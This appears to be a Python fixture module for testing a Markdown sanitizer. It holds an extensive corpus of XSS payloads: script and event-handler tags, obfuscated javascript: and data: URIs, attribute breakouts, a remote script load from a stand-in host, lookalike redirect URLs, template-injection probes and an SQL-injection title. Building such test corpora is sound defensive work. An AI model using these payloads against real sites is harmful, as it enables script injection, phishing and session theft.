"""Strings with which people have tried to run scripts through Markdown and text fields; all of them our own.

Each tries to set ``__kena`` on the page's window. They follow the published families: raw HTML in every form,
schemes behind entities, controls and letter case, links and pictures of every notation, quotes that leave an
attribute, extensions of Markdown programs, and addresses that look like somebody else's.
"""

# ruff: noqa: E501 - a string that is broken over lines is another string

from itertools import product

RUN = "__kena=1"
TAGS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<scr<script>ipt>{RUN}</script>",
    f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script\n>", f"<script>{RUN}", f"<<script>{RUN}//<</script>",
    "<script src=//lain.example/x.js></script>", f"<img src=x onerror={RUN}>", f"<img src=x onerror={RUN}",
    f"<img/src=x/onerror={RUN}>", f'<img src="x" onerror="{RUN}"/>', f"<img\tsrc=x\tonerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>", f"<img srcset='x 1x' onerror={RUN}>", f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><a href='javascript:{RUN}'>x</a></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>", f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'>", f"<object data='javascript:{RUN}'>", f"<embed src='javascript:{RUN}'>",
    f"<body onload={RUN}>", f"<details open ontoggle={RUN}>", f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>", f"<a href='javascript:{RUN}'>x</a>", f"<a onclick={RUN}>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>", f"<isindex action=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<base href='javascript:{RUN}//'>",
    f"<link rel=stylesheet href='javascript:{RUN}'>", f"<style>@import 'javascript:{RUN}'</style>",
    f"<style>*{{x:expression({RUN})}}</style>", f"<div style='background:url(javascript:{RUN})'>x</div>",
    f"<table background='javascript:{RUN}'>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>", f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- <script>{RUN}</script> -->", f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>", f"<?php {RUN} ?>",
    f"<!DOCTYPE html><script>{RUN}</script>", f"</p><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"<x onclick={RUN}>x</x>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;img src=x onerror={RUN}&#x3e;", f"\\<script>{RUN}\\</script>",
    f"＜script＞{RUN}＜/script＞", f"‹script›{RUN}‹/script›", f"<ſcript>{RUN}</ſcript>", f"<img src=`x`onerror={RUN}>",
    f"<div><p>\n\n<script>{RUN}</script>\n\n</p></div>", f"<pre><code></code></pre><script>{RUN}</script>",
)  # fmt: skip
SCHEMES = (
    f"javascript:{RUN}", f"JAVASCRIPT:{RUN}", f"JaVaScRiPt:{RUN}", f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}", f"javascript&#x3a;{RUN}", f"&#106;avascript:{RUN}", f"&#x6a;avascript:{RUN}",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{RUN}", f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}", f"java&#9;script:{RUN}", f"java&#10;script:{RUN}", f"java\tscript:{RUN}",
    f"&#1;javascript:{RUN}", f"&#32;javascript:{RUN}", f" javascript:{RUN}", f"javascript :{RUN}",
    f"javascript://%0a{RUN}", f"javascript:/*x*/{RUN}", f"%6aavascript:{RUN}", f"javascript%3A{RUN}",
    f"vbscript:{RUN}", f"livescript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2tlbmE9MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=__kena=1>",
    f"view-source:javascript:{RUN}", f"feed:javascript:{RUN}", f"jar:javascript:{RUN}!/", f"blob:javascript:{RUN}",
    "file:///etc/passwd", "ms-its:x", "//lain.example/", "/\\lain.example/", "\\\\lain.example/", "http:/\\lain.example",
    "https:lain.example", "https:///lain.example", "https://bulelengkab.go.id@lain.example/",
    "https://bulelengkab.go.id%40lain.example/", "https://lain.example\\\\.go.id/", "https://bulelengkаb.go.id/",
    "https://xn--bulelengkb-26i.go.id/", "https://ｂulelengkab.go.id/", "https://bulelengkab。go。id/",
    "https://bit.ly./x", "https://BIT.LY/x", "https://1.2.3.4/", "https://0x7f.1/", "https://[::1]/",
    "https://lain.example:0/", "https://bulelengkab.go.id\u200b.lain.example/", "https://%62it.ly/x",
    "https://bulelengkab-go-id/", "https://-lain.example/",
)  # fmt: skip
CARRIERS = (
    "[Formulir warga]({})", "[Formulir warga](<{}>)", '[Formulir warga]({} "Judul")',
    "[Formulir warga][a]\n\n[a]: {}", "[Formulir warga]\n\n[formulir warga]: <{}> 'Judul'", "<{}>",
    "![Perahu di pantai]({})", "![Perahu di pantai][a]\n\n[a]: {}", "[![Perahu di pantai](foto.jpg)]({})",
    "| Hari | Jam |\n|---|---|\n| [Formulir warga]({}) | 8 |",
)  # fmt: skip
QUOTES = (
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f'"><script>{RUN}</script>', f'x" autofocus onfocus="{RUN}" y="',
    f"`onerror={RUN}`", f"&quot; onload=&quot;{RUN}", f"&#34; onload=&#34;{RUN}", f'\\" onload=\\"{RUN}',
    f"{{{{ {RUN} }}}}", "{{ config }}", "{% raw %}{{ 7*7 }}{% endraw %}", "${__kena=1}", "<%= __kena=1 %>",
    f"javascript:{RUN}", f"');{RUN};//", f"\\u003cscript\\u003e{RUN}", f"</script>{RUN}", "]]>", "-->", "&amp;lt;b&amp;gt;",
)  # fmt: skip
EXTENSIONS = (
    f"## Judul {{: onclick={RUN}}}", f"Teks\n{{: onclick='{RUN}' }}", f"[x](/kontak/){{: onclick={RUN} }}",
    f"![Perahu](foto.jpg){{ onerror={RUN} }}", f"## Judul {{#id onclick={RUN}}}", f"## <script>{RUN}</script>",
    f"### &lt;img src=x onerror={RUN}&gt;", f"```\" onclick={RUN}\nx\n```", f"```html\n<script>{RUN}</script>\n```",
    f"~~~ {{.x onclick={RUN}}}\nx\n~~~", f"`<script>{RUN}</script>`", f"``<img src=x onerror={RUN}>``",
    f"    <script>{RUN}</script>", f"[^1]: <script>{RUN}</script>\n\nx[^1]", f"*[x]: \" onclick={RUN}\n\nx",
    "[TOC]", f"[TOC]\n\n## <img src=x onerror={RUN}>", f"Istilah\n: <script>{RUN}</script>",
    f"Istilah {{onclick={RUN}}}\n: Arti", f"| <script>{RUN}</script> | b |\n|---|---|\n| c | d |",
    f"|a|b|\n|:-\" onclick={RUN}|-|\n|c|d|", f"> <script>{RUN}</script>", f"- <script>{RUN}</script>",
    f"1. <img src=x onerror={RUN}>", f"[a](b \"c\" onclick='{RUN}')", f"[a](<b> 'c\" onclick=\"{RUN}')",
    f"![a\"onerror={RUN} x=\"](b.jpg)", f"![a](b.jpg \"c\\\" onerror={RUN} d=\\\"\")", f"[a](b\" onclick=\"{RUN})",
    f"[![a](x)](javascript:{RUN})", f"[[a](b)](javascript:{RUN})", f"[a]\n(javascript:{RUN})", f"[a] (javascript:{RUN})",
    f"[a](javascript:{RUN}\n)", f"[a](java\nscript:{RUN})", f"[a](\\javascript:{RUN})", f"[a](javascript\\:{RUN})",
    f"![a](foto.jpg){{srcset=x onerror={RUN}}}", f"<foo@lain.example?{RUN}>", f"<x@y\"onclick=\"{RUN}>",
    f"<https://a.id/\"onclick=\"{RUN}>", f"<https://a.id/<script>{RUN}</script>>", f"\x02klzzwxh:0\x03<script>{RUN}</script>",
    f"\x02wzxhzdk:0\x03<img src=x onerror={RUN}>", f"amp\x03 <script>{RUN}</script>",
    f"****<script>{RUN}</script>****", f"**[a](javascript:{RUN})**", f"*a](javascript:{RUN})*", f"~~<script>{RUN}</script>~~",
    f"Judul <script>{RUN}</script>\n=====", f"a  \n<script>{RUN}</script>", f"a\\\n<script>{RUN}</script>",
)  # fmt: skip
LINKS = tuple(carrier.format(scheme) for carrier, scheme in product(CARRIERS, SCHEMES))
BODIES = (*TAGS, *LINKS, *QUOTES, *EXTENSIONS)
"""What stands in a body."""
TEXTS = (*TAGS, *SCHEMES, *QUOTES)
"""What stands in a field of the head."""
# Titles that are odd, and nothing worse: in every script, in both directions, with marks of all kinds.
TITLES = (
    "Rapat “besar” & 'kecil' <30 orang>", "ᬩᬮᬶ ᬳᬓ᭄ᬱᬭ ᬩᬮᬶ", "اجتماع القرية غدا", "会议通知 村公所", "Ünïcödé ţîţļé ñ",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "🎉🎉 Perayaan 🎉🎉", "a]b[c](d) *e* _f_ `g`", "&amp; &lt;b&gt; &#x3c;", "100% \\o/ {x} $y",
    "-->]]></title", "שלום לכולם בכפר", "มีประชุมวันนี้", "{{ 7*7 }} {% x %}", "' OR 1=1 --", "\u200d\u200cnol lebar\u2060",
)  # fmt: skip
